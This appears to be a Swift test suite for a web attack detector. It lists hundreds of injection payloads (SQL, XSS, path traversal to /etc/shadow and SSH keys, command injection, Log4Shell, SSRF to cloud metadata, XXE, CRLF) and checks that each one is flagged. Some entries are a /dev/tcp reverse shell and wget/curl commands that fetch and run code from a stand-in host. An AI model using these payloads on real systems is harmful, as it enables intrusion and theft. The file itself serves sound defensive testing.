import Matching
import Rules
import Testing

/// Values that attack, by the judge that must say so. All are ours.
@Suite struct AttackTableTests {
    struct Case: CustomTestStringConvertible, Sendable {
        var judge: AttackJudge
        var value: String
        init(_ judge: AttackJudge, _ value: String) {
            self.judge = judge
            self.value = value
        }
        var testDescription: String { "\(judge.name): \(value)" }
    }

    static let sql: [Case] = [
        "7' or 5=5-- ", "ha' and 'n'='n", "12 or 3=3", "5) and (8=8", "x' union select ten,matkhau from nguoidung#",
        "4 union/**/all/**/select null,null", "9 order by 14-- -", "phuong'--", "3;drop table hoso",
        "1;waitfor delay '0:0:9'",
        "2 and sleep(7)", "q'||(select version())||'", "-6' or elt(1=1,7) limit 1#", "8 rlike (select 1 from dual)",
        "5 and extractvalue(1,concat(0x7e,user()))", "a\" or \"c\"=\"c", "1' group by 3 having 1=1--",
        "0 or exists(select 1 from hoso)",
        "select pg_sleep(4)", "7 procedure analyse(1,1)", "b'; exec master..xp_cmdshell 'dir'--",
        "3 and ascii(substr(user,1,1))>64",
        "@@version", "9/*!50000union*/ select 1,2", "c' into outfile '/tmp/h.php", "6 xor 2=2",
        "(select case when 4=4 then 1 else 0 end)", "d'::jsonb ? 'khoa", "1;if(2=2) select 3",
        "1 union select matkhau", "union select ten,mk",
        // Beside the ordinary ones that look like them.
        "1 and 2=4", "1 and 1 = 2", "x'or'1", "sleep(5)", "1;sleep (5)#", "ten = 1 or 1=1-- ", "6 or 19-4=15",
        "2e0union select ten,mk", "3.5union select ten,mk",
        "{\"ten\":\"b\" or \"c\"=\"c\"}", "{\"ten\":\"b\\\" or \\\"c\\\"=\\\"c\"}", "{\"ten\":\"b' or 'c'='c\"}",
    ].map { Case(.sql, $0) }

    static let script: [Case] = [
        "<esi:include src=//h.example/>", "top[/al/.source+/ert/.source](1)", "<script src=//h.example/a.js>",
        "<svg/onload=confirm(3)>", "\" onfocus=alert(4) autofocus x=\"",
        "';prompt(8)//",
        "<img src=y onerror=eval(name)>", "java\tscript:alert(6)", "javascript:fetch('//h.example')",
        "<iframe srcdoc='<b>'>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">", "<math><a xlink:href=javascript:confirm(1)>",
        "</title><script>",
        "+ADw-script+AD4-x", "<div style=\"width:expression(alert(2))\">", "[][(![]+[])[+[]]+[]]",
        "<details open ontoggle=alert(5)>",
        "\"><img src=z>", "<x onpointerenter=confirm`1`>", "&lt;script&gt;alert(3)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(1)",
    ].map { Case(.script, $0) }

    static let files: [Case] = [
        "../../../etc/shadow", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/hosts", "..%252f..%252fconf",
        "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc", "/proc/self/environ", "C:\\boot.ini", "/var/log/apache2/access.log",
        "..;/..;/manager", "..%00/..%00/x", "file:///etc/group", "/usr/local/apache2/conf/httpd.conf",
        "d:/xampp/php/php.ini",
        "/home/x/.ssh/id_rsa",
    ].map { Case($0.hasPrefix("file:") ? .ssrf : .file, $0) }

    static let commands: [Case] =
        [
            "8.8.8.8;id", "x|whoami", "a&&cat /etc/hosts", "`uname -a`", "$(curl h.example)", "c''at /etc/passwd",
            "ca\\t /e\\tc/hosts", "{ls,-la,/}", "cat${IFS}/etc/hosts", "/???/c?t /???/p??s?d",
            "bash -i >& /dev/tcp/192.0.2.1/99 0>&1",
            "wget http://h.example/x -O- | sh", "x\nid", "() { :;}; /bin/id", "$((7*7))", "ping -c 3 192.0.2.7",
            "|| sleep 9",
            "${PATH:0:1}bin", "chmod 777 /tmp/x", "w$@hoami",
        ].map { Case(.unix, $0) }
        + [
            "x&ipconfig", "| dir c:\\", "for /f \"tokens=1\" %i in ('whoami') do echo %i", "if exist c:\\x.txt echo y",
            "%COMSPEC%",
            "x & p^o^w^e^r^s^h^e^l^l -enc x", "cmd.exe /c dir", "powershell -nop -c iex(1)", "%programfiles:~10,1%",
            "& net user",
            "Get-Process;",
        ].map { Case(.windows, $0) }

    static let code: [Case] =
        [
            "<?php system('id');", "<?= `id` ?>", "phpinfo()", "$_GET['c']",
            "php://filter/convert.base64-encode/resource=x",
            "(sys.(te).m)('id')", "\"system\"('ls')", "$x('id')", "O:4:\"Dich\":1:{s:1:\"a\";i:1;}",
            "auto_prepend_file=x",
            "base64_decode ( 'eA' )", "system/*x*/('id')",
        ].map { Case(.php, $0) }
        + [
            "${jndi:ldap://h.example/x}", "${${lower:j}ndi:rmi://h/x}", "${${::-j}${::-n}${::-d}${::-i}:dns://h}",
            "T(java.lang.Runtime).getRuntime().exec('id')", "%{(#a=@java.lang.Runtime@getRuntime())}",
            "rO0ABXNyABFqYXZhLnV0aWw=",
        ].map { Case(.java, $0) }
        + [
            "require('child_process').exec('id')", "process.mainModule.require('fs')", "_$$ND_FUNC$$_function(){}()",
            "while(true){}",
            "__import__('os').popen('id')",
        ].map { Case(.node, $0) }
        + [
            "{{7*7}}", "${9*9}", "#{3*3}", "<%= 5*5 %>", "{{config.items()}}", "{{''.__class__.__mro__}}", "*{4*4}",
            "@{[system 'id']}", "{% debug %}{{request.application}}",
        ].map { Case(.template, $0) }

    static let others: [Case] =
        [
            "http://127.0.0.1/", "http://2130706433/", "http://0x7f.1/", "http://[::1]:80/",
            "http://169.254.169.254/latest/meta-data",
            "gopher://h:70/_x", "dict://h:11211/", "http://x.127.0.0.1.nip.io/", "http://localhost:9200/",
            "localhost/admin",
        ].map { Case(.ssrf, $0) }
        + [
            "///h.example/x", "/\\h.example", "https:h.example", "http://good.example@h.example/", "https:/\\h.example",
            "/https://h.example",
        ]
        .map { Case(.redirect, $0) }
        + [
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hosts\">]>", "<xi:include href=\"x\"/>",
        ].map { Case(.xml, $0) }
        + ["*)(uid=*))(|(uid=*", "x)(&(a=b", "*)(|(cn=*"].map { Case(.ldap, $0) }
        + ["{\"$gt\":\"\"}", "{'$where':'1'}", "x'||this.pass=='y", "{__schema{types{name}}}"].map { Case(.nosql, $0) }
        + ["x\r\nRCPT TO:<a@h.example>", "x\r\nBcc: a@h.example", "a\nEHLO h", "x\r\nA001 LOGOUT"].map {
            Case(.mail, $0)
        }
        + ["x\r\nSet-Cookie: a=b", "x\r\nLocation: //h.example", "x\nHTTP/1.1 200 OK"].map { Case(.header, $0) }

    @Test(arguments: sql + script + files + commands + code + others)
    func attacksAreFound(_ attack: Case) {
        let found = findings(target: "/tra-cuu?trang=3&tu=" + encoded(attack.value) + "&x=1")
        let best = found.map { $0.score(attack.judge) }.max() ?? 0
        #expect(
            best >= 5, "\(attack.judge.name) gives \(best); parts: \(found.flatMap(\.parts).map { "\($0.part.what)" })")
    }

    @Test(arguments: [
        "/a/../../etc/passwd", "/x/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/conf", "/a;/..;/b/..;/c",
        "//web-inf/web.xml/web-inf/",
        "/x%00.jpg/..%00/", "/%3Cscript%3Ealert(1)%3C/script%3E", "/${jndi:ldap://h/x}", "/x'%20or%201=1--%20",
    ])
    func attacksInPathsAreFound(_ path: String) { #expect(!findings(target: path).isEmpty) }

    @Test(arguments: ["a[$ne]=1", "__proto__[x]=1", "a[$regex]=.*", "%24where=1;"])
    func attacksInNamesAreFound(_ query: String) {
        #expect(!findings(target: "/x?" + query, leastScore: 5).isEmpty)
    }

    @Test func attacksInHeadersAreFound() {
        #expect(!findings(target: "/", agent: "${jndi:ldap://h.example/a}").isEmpty)
        #expect(!findings(target: "/", agent: "() { :;}; /bin/bash -c id").isEmpty)
        #expect(!findings(target: "/", agent: "x' or 1=1-- ").isEmpty)
        #expect(!findings(target: "/", referrer: "https://h.example/?q=%27%20or%201%3D1--%20").isEmpty)
        #expect(!findings(target: "/", cookie: "lang=vi; gio=1' union select 1,2-- ").isEmpty)
    }

    @Test func attacksInBodiesAreFound() {
        #expect(!findings(target: "/", body: "ten=a&tu=%3Cscript%3Ealert(1)%3C%2Fscript%3E").isEmpty)
        #expect(!findings(target: "/", body: "{\"ten\":\"a\",\"tu\":\"x' or 1=1-- \"}").isEmpty)
        #expect(
            !findings(target: "/", body: "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a/>")
                .isEmpty)
    }
}
